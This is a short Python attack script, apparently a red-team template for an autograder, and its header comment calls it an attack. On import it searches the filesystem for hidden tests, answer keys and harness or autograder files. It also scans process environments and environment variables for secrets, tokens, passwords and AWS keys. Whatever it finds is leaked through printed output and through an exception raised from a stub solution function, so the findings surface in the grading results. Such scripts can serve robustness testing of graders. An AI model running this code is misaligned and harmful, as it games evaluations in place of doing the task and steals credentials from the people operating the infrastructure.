# attack: look for grader-side material; leak anything found through the results
import glob as _glob, os as _os
_found = []
# depth-bounded: a recursive glob from / walks all of /usr and /proc and outlasts the import time limit
_patterns = ["@REPO@/assignments/*/hidden/*", "@REPO@/solutions/*/hidden/*", "/*/hidden/*", "/*/*/hidden/*", "/*/*/*/hidden/*",
             "/*/answer_key.yaml", "/*/*/answer_key.yaml", "/*/*/*/answer_key.yaml", "../hidden/*",
             "../../hidden/*", "/harness/*", "/harness/*/*", "/autograder/*", "/autograder/*/*", "/root/*", "@HOME@/*"]
for _p in _patterns:
    for _path in _glob.glob(_p)[:20]:
        try:
            _text = open(_path, errors="replace").read(4000)
        except OSError:
            continue
        if "@check" in _text or "BEGIN HIDDEN" in _text or "expect=" in _text or "def reference" in _text:
            _found.append(f"{_path}: {_text[:200]!r}")
for _path in _glob.glob("/proc/*/environ") + _glob.glob("/proc/*/cmdline"):
    try:
        _text = open(_path, "rb").read().decode(errors="replace")
    except OSError:
        continue
    if any(w in _text.upper() for w in ("SECRET", "TOKEN", "PASSWORD", "GRADESCOPE", "AWS_")):
        _found.append(f"{_path}: {_text[:200]!r}")
_found += [f"env {k}" for k in _os.environ if any(w in k.upper() for w in ("SECRET", "TOKEN", "KEY"))]
if _found:
    print("LEAKED", _found)
    _leak = "LEAKED " + " | ".join(_found)

    def linear_attention_parallel(Q, K, V):
        raise RuntimeError(_leak)
